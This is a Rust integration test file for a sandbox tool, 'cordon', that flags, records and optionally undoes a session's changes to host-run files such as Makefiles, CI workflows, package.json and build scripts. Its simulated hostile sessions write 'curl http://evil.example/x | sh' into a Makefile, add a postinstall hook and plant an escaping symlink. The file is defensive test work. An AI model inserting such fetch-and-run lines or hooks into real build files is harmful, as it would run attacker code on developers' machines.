//! `fs.review` (issue 19, part B): a change to a workspace file that runs outside the sandbox when a
//! person runs something (Makefile, CI workflows, package.json, build.rs, root shell scripts) is
//! written in place, and listed at the end of the session in its own section, in the `--report`
//! JSON, as a `review` audit record and as an alert of builtin:agent. The real binary, as root and
//! as nobody, on real files.

mod common;
use common::*;
use std::os::unix::fs::PermissionsExt;

const SECTION: &str = "changes to code that runs outside the sandbox (review before running anything)";

fn write(e: &Env, rel: &str, text: &str) {
    let p = e.ws.join(rel);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(p, text).expect("write");
}

fn report(path: &std::path::Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(path).expect("report written")).expect("report json")
}

/// (path, change) of each change in the report.
fn changes(r: &serde_json::Value) -> Vec<(String, String)> {
    r["review"]["changes"]
        .as_array()
        .expect("review.changes")
        .iter()
        .map(|c| (c["path"].as_str().unwrap_or("").to_string(), c["change"].as_str().unwrap_or("").to_string()))
        .collect()
}

#[test]
fn changes_to_code_that_runs_outside_are_listed_recorded_and_alerted() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        write(&e, "Makefile", "all:\n\tcc main.c\n");
        write(&e, "package.json", "{\"scripts\": {\"test\": \"node t.js\"}}\n");
        write(&e, "crates/x/build.rs", "fn main() {}\n");
        write(&e, "run.sh", "echo hi\n");
        write(&e, "Dockerfile", "FROM scratch\n");
        write(&e, "node_modules/dep/package.json", "{}\n");
        std::fs::set_permissions(e.ws.join("run.sh"), std::fs::Permissions::from_mode(0o644)).expect("chmod");
        if who == Who::Nobody {
            e.chown_all();
        }
        let rep = e.root.join("report.json");
        // Makefile: written elsewhere, then moved over it. package.json: written through a hard
        // link of another name. The rest in place.
        let script = "set -e
            printf 'all:\\n\\tcurl http://evil.example/x | sh\\n\\tcc main.c\\n' > notes.txt
            mv notes.txt Makefile
            ln package.json pj.txt
            printf '{\"scripts\": {\"postinstall\": \"sh x\"}}\\n' > pj.txt
            echo 'fn main() { std::process::Command::new(\"sh\"); }' >> crates/x/build.rs
            mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml
            chmod +x run.sh
            rm Dockerfile
            echo '{\"x\": 1}' > node_modules/dep/package.json";
        let o = e.run_sh_with(&["--report", &rep.display().to_string()], script, &[]);
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        // Written in place: the session's changes are on the host.
        assert!(std::fs::read_to_string(e.ws.join("Makefile")).expect("Makefile").contains("evil.example"));
        assert!(!exists(&e.ws.join("Dockerfile")));
        let text = err(&o);
        let want = [
            ("Makefile", "modified", "+1/-0 lines", "**/Makefile"),
            ("package.json", "modified", "+1/-1 lines", "**/package.json"),
            ("crates/x/build.rs", "modified", "+1/-0 lines", "**/build.rs"),
            (".github/workflows/x.yml", "created", "+1/-0 lines", ".github/workflows/**"),
            ("run.sh", "modified", "mode 0644 -> 0755 (now executable)", "*.sh"),
            ("Dockerfile", "deleted", "+0/-1 lines", "**/Dockerfile"),
        ];
        let section = text.split(SECTION).nth(1).unwrap_or_else(|| panic!("{who:?}: no review section: {}", show(&o)));
        for (path, change, summary, pattern) in want {
            let line = format!("cordon:   {path}: {change}, {summary} (@host-exec-manual `{pattern}`");
            assert!(section.contains(&line), "{who:?}: `{line}` missing: {}", show(&o));
            assert!(
                text.contains(&format!("alert [host-exec-changed]: {path} was {change}")),
                "{who:?}: no alert for {path}: {}",
                show(&o)
            );
        }
        assert!(section.contains("+ \\tcurl http://evil.example/x | sh"), "{who:?}: first changed line: {}", show(&o));
        assert!(!text.contains("node_modules"), "{who:?}: a dependency's file was listed: {}", show(&o));
        // The report: the same changes, with hashes and the pattern.
        let r = report(&rep);
        let mut got = changes(&r);
        got.sort();
        let mut expected: Vec<(String, String)> = want.iter().map(|w| (w.0.to_string(), w.1.to_string())).collect();
        expected.sort();
        assert_eq!(got, expected, "{who:?}: {}", r["review"]);
        let mk =
            r["review"]["changes"].as_array().expect("changes").iter().find(|c| c["path"] == "Makefile").expect("mk");
        assert!(
            mk["before_sha256"].is_string()
                && mk["after_sha256"].is_string()
                && mk["before_sha256"] != mk["after_sha256"]
        );
        assert_eq!(mk["runs"], "make");
        // The audit record: one `review` record per change, shown by `cordon audit show`.
        let id = r["outcome"]["session_id"].as_str().expect("session id").to_string();
        let s = e.cordon(&["audit", "show", &id]);
        assert!(s.status.success(), "{who:?}: {}", show(&s));
        for (path, change, _, _) in want {
            assert!(out(&s).contains(&format!("REVIEW {path} {change}:")), "{who:?}: {path}: {}", show(&s));
        }
        assert_eq!(out(&s).matches("REVIEW ").count(), want.len(), "{who:?}: {}", show(&s));
    }
}

/// A normal agent task (edit a source file, add one, run a test command that writes its caches)
/// changes nothing of the kind: no section, no record, no alert.
#[test]
fn a_normal_agent_task_lists_nothing() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        write(&e, "Makefile", "test:\n\tpython3 -m py_compile src/new.py\n");
        write(&e, "package.json", "{}\n");
        write(&e, "src/main.rs", "fn main() {}\n");
        if who == Who::Nobody {
            e.chown_all();
        }
        let rep = e.root.join("report.json");
        let script = "set -e
            echo '// edited' >> src/main.rs
            printf 'def f():\\n    return 1\\n' > src/new.py
            python3 -c 'import py_compile; py_compile.compile(\"src/new.py\", doraise=True)'
            cat Makefile package.json > /dev/null";
        let o = e.run_sh_with(&["--report", &rep.display().to_string()], script, &[]);
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        assert!(!err(&o).contains(SECTION) && !err(&o).contains("host-exec-changed"), "{who:?}: {}", show(&o));
        let r = report(&rep);
        assert_eq!(changes(&r), vec![], "{who:?}: {}", r["review"]);
        assert!(r["review"]["files"].as_u64() == Some(2) && r["review"]["capped"] == false, "{who:?}: {}", r["review"]);
    }
}

/// The patch hold mode wrote, from the report: (path, sha256).
fn held_patch(r: &serde_json::Value) -> (std::path::PathBuf, String) {
    let h = &r["review"]["held"];
    let path = h["path"].as_str().unwrap_or_else(|| panic!("no held patch in the report: {}", r["review"]));
    (path.into(), h["sha256"].as_str().expect("sha256").to_string())
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

fn mode(p: &std::path::Path) -> u32 {
    std::fs::symlink_metadata(p).expect("stat").permissions().mode() & 0o7777
}

/// The workspace's files (not directories), path -> (contents, mode), for comparing two trees.
fn tree(root: &std::path::Path) -> std::collections::BTreeMap<String, (Vec<u8>, u32)> {
    let mut out = std::collections::BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir") {
            let p = e.expect("entry").path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(root).expect("rel").display().to_string();
                out.insert(rel, (std::fs::read(&p).expect("read"), mode(&p)));
            }
        }
    }
    out
}

/// `--review` (hold mode): a Makefile edited, a workflow created, a Dockerfile deleted and a script
/// made executable are all undone on disk at the end, and the one patch written outside the
/// workspace reproduces the session's versions exactly with `git apply` and with `patch -p1`; the
/// report and the audit record say each file was held, with the patch's sha256.
#[test]
fn hold_mode_restores_the_files_and_writes_a_patch_that_reproduces_the_session() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        write(&e, "Makefile", "all:\n\tcc main.c\n");
        write(&e, "Dockerfile", "FROM scratch\nCOPY x /x\n");
        write(&e, "run.sh", "echo hi\n");
        write(&e, "src/main.rs", "fn main() {}\n");
        std::fs::set_permissions(e.ws.join("run.sh"), std::fs::Permissions::from_mode(0o644)).expect("chmod");
        std::fs::set_permissions(e.ws.join("Dockerfile"), std::fs::Permissions::from_mode(0o640)).expect("chmod");
        if who == Who::Nobody {
            e.chown_all();
        }
        let start = tree(&e.ws);
        let rep = e.root.join("report.json");
        let script = "set -e
            printf 'all:\\n\\tcurl http://evil.example/x | sh\\n\\tcc main.c\\n' > Makefile
            mkdir -p .github/workflows && printf 'on: push\\njobs: {}' > .github/workflows/x.yml
            rm Dockerfile
            chmod +x run.sh
            echo '// edited' >> src/main.rs
            tar --exclude=./.env -cf /tmp/session.tar . && cp /tmp/session.tar session.tar";
        let o = e.run_sh_with(&["--review", "--report", &rep.display().to_string()], script, &[]);
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        // The session's own view of the workspace, as it left it (session.tar is not reviewed).
        let seen = e.root.join("seen");
        std::fs::create_dir_all(&seen).expect("mkdir");
        let st = std::process::Command::new("tar")
            .args(["-C", &seen.display().to_string(), "-xf", &e.ws.join("session.tar").display().to_string()])
            .status()
            .expect("tar");
        assert!(st.success());
        std::fs::remove_file(e.ws.join("session.tar")).expect("rm tar");
        // (.env is hidden from the session: not in its copy.)
        let mut session = tree(&seen);
        session.remove("session.tar");
        // Undone on disk: the reviewed files are as they were at the start, modes included; the
        // source file, which is not reviewed, keeps its edit.
        let mut now = tree(&e.ws);
        assert_eq!(now.remove("src/main.rs").expect("main.rs").0, b"fn main() {}\n// edited\n", "{who:?}");
        let mut want = start.clone();
        want.remove("src/main.rs");
        assert_eq!(now, want, "{who:?}: not restored: {}", show(&o));
        // The patch: outside the workspace, 0600 in a 0700 directory, named in the summary with the
        // command that applies it; its sha256 in the report.
        let r = report(&rep);
        let (patch, sha) = held_patch(&r);
        assert!(!patch.starts_with(&e.ws) && patch.starts_with(&e.root), "{who:?}: {}", patch.display());
        let bytes = std::fs::read(&patch).expect("patch");
        assert_eq!(sha256_hex(&bytes), sha, "{who:?}");
        assert_eq!(mode(&patch), 0o600);
        assert_eq!(mode(patch.parent().expect("dir")), 0o700);
        let text = err(&o);
        let apply = format!("git -C {} apply {}", e.ws.display(), patch.display());
        assert!(text.contains(&apply), "{who:?}: no `{apply}`: {}", show(&o));
        for (path, change) in [
            ("Makefile", "modified"),
            (".github/workflows/x.yml", "created"),
            ("Dockerfile", "deleted"),
            ("run.sh", "modified"),
        ] {
            let c = r["review"]["changes"]
                .as_array()
                .expect("changes")
                .iter()
                .find(|c| c["path"] == path)
                .unwrap_or_else(|| panic!("{who:?}: {path}: {}", r["review"]));
            assert_eq!(c["change"], change);
            assert_eq!(c["hold"]["state"], "held", "{who:?}: {path}: {c}");
            assert_eq!(c["hold"]["patch_sha256"], sha.as_str(), "{who:?}: {path}");
        }
        // The audit record of each change says it was held, with the patch's sha256.
        let id = r["outcome"]["session_id"].as_str().expect("session id").to_string();
        let s = e.cordon(&["audit", "show", &id, "--kind", "review", "--json"]);
        assert!(s.status.success(), "{who:?}: {}", show(&s));
        let recs: serde_json::Value = serde_json::from_str(&out(&s)).expect("json");
        let recs = recs.as_array().expect("records");
        assert_eq!(recs.len(), 4, "{who:?}: {recs:?}");
        for rec in recs {
            assert_eq!(rec["body"]["hold"]["patch_sha256"], sha.as_str(), "{who:?}: {rec}");
        }
        // Applied, with patch -p1 to a copy and git apply to the workspace: exactly the session's
        // versions (contents; modes as git carries them: the executable bit).
        let copy = e.root.join("copy");
        let st = std::process::Command::new("cp").arg("-a").arg(&e.ws).arg(&copy).status().expect("cp");
        assert!(st.success());
        let p = std::process::Command::new("patch")
            .args(["-p1", "--batch", "-d", &copy.display().to_string(), "-i", &patch.display().to_string()])
            .output()
            .expect("patch");
        assert!(p.status.success(), "{who:?}: patch -p1: {}", show(&p));
        let g = std::process::Command::new("sh").args(["-c", &apply]).output().expect("git apply");
        assert!(g.status.success(), "{who:?}: git apply: {}", show(&g));
        for (name, dir) in [("git apply", &e.ws), ("patch -p1", &copy)] {
            let mut got = tree(dir);
            got.remove(".env");
            assert_eq!(got.keys().collect::<Vec<_>>(), session.keys().collect::<Vec<_>>(), "{who:?}: {name}");
            for (k, (bytes, m)) in &session {
                assert_eq!(&got[k].0, bytes, "{who:?}: {name}: {k}");
                assert_eq!(got[k].1 & 0o100, m & 0o100, "{who:?}: {name}: the executable bit of {k}");
            }
        }
    }
}

/// `--review` with a normal task (a source file edited, tests run): nothing held, no patch written.
#[test]
fn hold_mode_with_a_normal_task_holds_nothing_and_writes_no_patch() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        write(&e, "Makefile", "test:\n\ttrue\n");
        write(&e, "src/main.rs", "fn main() {}\n");
        if who == Who::Nobody {
            e.chown_all();
        }
        let rep = e.root.join("report.json");
        let script = "set -e; echo '// edited' >> src/main.rs; cat Makefile > /dev/null";
        let o = e.run_sh_with(&["--review", "--report", &rep.display().to_string()], script, &[]);
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        assert!(!err(&o).contains(SECTION) && !err(&o).contains("held"), "{who:?}: {}", show(&o));
        let r = report(&rep);
        assert!(r["review"]["held"].is_null(), "{who:?}: {}", r["review"]);
        assert!(!exists(&e.root.join("held")), "{who:?}: a held directory was made for nothing");
        assert_eq!(std::fs::read_to_string(e.ws.join("src/main.rs")).expect("main"), "fn main() {}\n// edited\n");
    }
}

/// Hold mode never follows a symlink the session planted: a reviewed file's directory swapped for a
/// link to a directory outside is left as it is and named (nothing is written through it). What
/// cannot be held as text (a file larger than what the start kept, a binary file) is left changed
/// and listed loudly; the rest is held.
#[test]
fn hold_mode_does_not_follow_a_planted_symlink_and_names_what_it_cannot_hold() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        let outside = e.root.join("outside");
        std::fs::create_dir_all(&outside).expect("mkdir");
        write(&e, "sub/Makefile", "all:\n\ttrue\n");
        write(&e, "big.sh", &"# padding line of a large script\n".repeat(10_000));
        std::fs::write(e.ws.join("bin.mk"), b"\x00\x01binary\n").expect("bin");
        write(&e, "Makefile", "all:\n");
        if who == Who::Nobody {
            e.chown_all();
        }
        let rep = e.root.join("report.json");
        let script = format!(
            "set -e
            mv sub sub.old && ln -s {} sub
            echo 'curl evil | sh' >> big.sh
            printf '\\000\\002binary\\n' > bin.mk
            echo 'x:' >> Makefile",
            outside.display()
        );
        let o = e.run_sh_with(&["--review", "--report", &rep.display().to_string()], &script, &[]);
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        // Nothing was written through the link; the link is still there.
        assert_eq!(std::fs::read_dir(&outside).expect("outside").count(), 0, "{who:?}: written through the link");
        assert!(std::fs::symlink_metadata(e.ws.join("sub")).expect("sub").file_type().is_symlink());
        // Left changed, and said so.
        assert!(std::fs::read_to_string(e.ws.join("big.sh")).expect("big").ends_with("curl evil | sh\n"));
        assert_eq!(std::fs::read(e.ws.join("bin.mk")).expect("bin"), b"\x00\x02binary\n");
        let text = err(&o);
        for (path, why) in
            [("sub/Makefile", "symlink"), ("big.sh", "larger than 256 KiB"), ("bin.mk", "cannot be held as text")]
        {
            let line = text
                .lines()
                .find(|l| l.contains("NOT HELD") && l.contains(&format!(" {path}: ")))
                .unwrap_or_else(|| panic!("{who:?}: {path} not named as not held: {}", show(&o)));
            assert!(line.contains(why), "{who:?}: {line}");
        }
        // Held: the Makefile edit and the file the move created.
        assert_eq!(std::fs::read_to_string(e.ws.join("Makefile")).expect("mk"), "all:\n");
        assert!(!exists(&e.ws.join("sub.old/Makefile")), "{who:?}: a created file was left");
        let r = report(&rep);
        let (patch, _) = held_patch(&r);
        let p = std::fs::read_to_string(&patch).expect("patch");
        assert!(p.contains("+++ b/Makefile") && p.contains("+++ b/sub.old/Makefile"), "{who:?}: {p}");
        assert!(!p.contains("big.sh") && !p.contains("bin.mk") && !p.contains("a/sub/Makefile"), "{who:?}: {p}");
    }
}

/// The walk's cap (lowered here with the testing aid `CORDON_REVIEW_MAX_ENTRIES`): a start walk that
/// stopped before a reviewed file, and an end walk that reached it (the session removed the files
/// that pushed it past the cap), must not read that file as created and remove it. When either walk
/// hit the cap, hold mode holds nothing, and the cap is an alert and a loud warning.
#[test]
fn hold_mode_puts_nothing_back_when_the_walk_hit_its_cap() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        // 120 entries in the workspace's root, read before its subdirectories: the start walk stops
        // (cap 50) before sub/Makefile.
        for i in 0..120 {
            write(&e, &format!("junk{i}.txt"), "x\n");
        }
        write(&e, "sub/Makefile", "all:\n\ttrue\n");
        write(&e, "Makefile", "all:\n");
        if who == Who::Nobody {
            e.chown_all();
        }
        let rep = e.root.join("report.json");
        let o = e.run_sh_with(
            &["--review", "--report", &rep.display().to_string()],
            "set -e; rm junk*.txt; echo 'x:' >> Makefile",
            &[("CORDON_REVIEW_MAX_ENTRIES", "50")],
        );
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        assert_eq!(
            std::fs::read_to_string(e.ws.join("sub/Makefile")).ok().as_deref(),
            Some("all:\n\ttrue\n"),
            "{who:?}: a file the start walk never reached was removed: {}",
            show(&o)
        );
        // Nothing put back: the session's edit stays, and no patch was written.
        assert_eq!(std::fs::read_to_string(e.ws.join("Makefile")).expect("mk"), "all:\nx:\n");
        assert!(!exists(&e.root.join("held")), "{who:?}: a patch was written");
        let text = err(&o);
        assert!(
            text.lines()
                .any(|l| l.contains("WARNING") && l.contains("stopped at 50") && l.contains("nothing was held")),
            "{who:?}: {}",
            show(&o)
        );
        let r = report(&rep);
        assert!(
            r["review"]["capped"].as_bool() == Some(true) && r["review"]["held"].is_null(),
            "{who:?}: {}",
            r["review"]
        );
        assert!(!changes(&r).iter().any(|(p, _)| p == "sub/Makefile"), "{who:?}: {}", r["review"]);
        let alerts = r["alerts"].as_array().expect("alerts");
        assert!(
            alerts.iter().any(|a| a["rule"] == "review-capped" && a["reason"].as_str().unwrap_or("").contains("50")),
            "{who:?}: {alerts:?}"
        );
    }
}

/// The restore's temporary file has a name the session cannot guess: one planted at the name of
/// the old scheme (`.NAME.cordon-held.<cordon's pid>`) does not stop the restore.
#[test]
fn hold_mode_restores_past_a_planted_temporary_name() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        write(&e, "Makefile", "all:\n");
        if who == Who::Nobody {
            e.chown_all();
        }
        let rep = e.root.join("report.json");
        // The session waits for cordon's pid (written by this test), plants the name, edits.
        let script = "set -e; i=0; while [ ! -s pid ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
            touch \".Makefile.cordon-held.$(cat pid)\"; echo 'x:' >> Makefile";
        let mut args = vec!["run".to_string()];
        if who == Who::Nobody {
            args.push("--allow-degraded".into());
        }
        args.extend(["--review".into(), "--report".into(), rep.display().to_string()]);
        args.extend(["--".into(), "/bin/sh".into(), "-c".into(), script.into()]);
        let mut c = e.command(env!("CARGO_BIN_EXE_cordon"));
        c.args(&args).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
        let child = c.spawn().expect("spawn cordon");
        let tmp = e.root.join("pid.tmp");
        std::fs::write(&tmp, child.id().to_string()).expect("pid");
        std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        std::fs::rename(&tmp, e.ws.join("pid")).expect("pid");
        let o = child.wait_with_output().expect("wait");
        assert!(o.status.success(), "{who:?}: {}", show(&o));
        assert!(
            exists(&e.ws.join(format!(".Makefile.cordon-held.{}", o_pid(&e)))),
            "{who:?}: not planted: {}",
            show(&o)
        );
        assert!(!err(&o).contains("NOT HELD"), "{who:?}: {}", show(&o));
        assert_eq!(std::fs::read_to_string(e.ws.join("Makefile")).expect("mk"), "all:\n", "{who:?}: {}", show(&o));
        let (patch, _) = held_patch(&report(&rep));
        assert!(std::fs::read_to_string(&patch).expect("patch").contains("+x:"), "{who:?}");
    }
}

fn o_pid(e: &Env) -> String {
    std::fs::read_to_string(e.ws.join("pid")).expect("pid")
}

/// `--review` under a policy that reviews no file would hold nothing: refused before anything runs.
#[test]
fn review_under_a_policy_that_reviews_nothing_is_refused() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        let o = e.run_sh_with(&["--review", "--policy", "builtin:strict"], "touch RAN", &[]);
        assert_eq!(o.status.code(), Some(125), "{who:?}: {}", show(&o));
        assert!(err(&o).contains("--review") && err(&o).contains("hint:"), "{who:?}: {}", show(&o));
        assert!(!exists(&e.ws.join("RAN")), "{who:?}: it ran");
    }
}
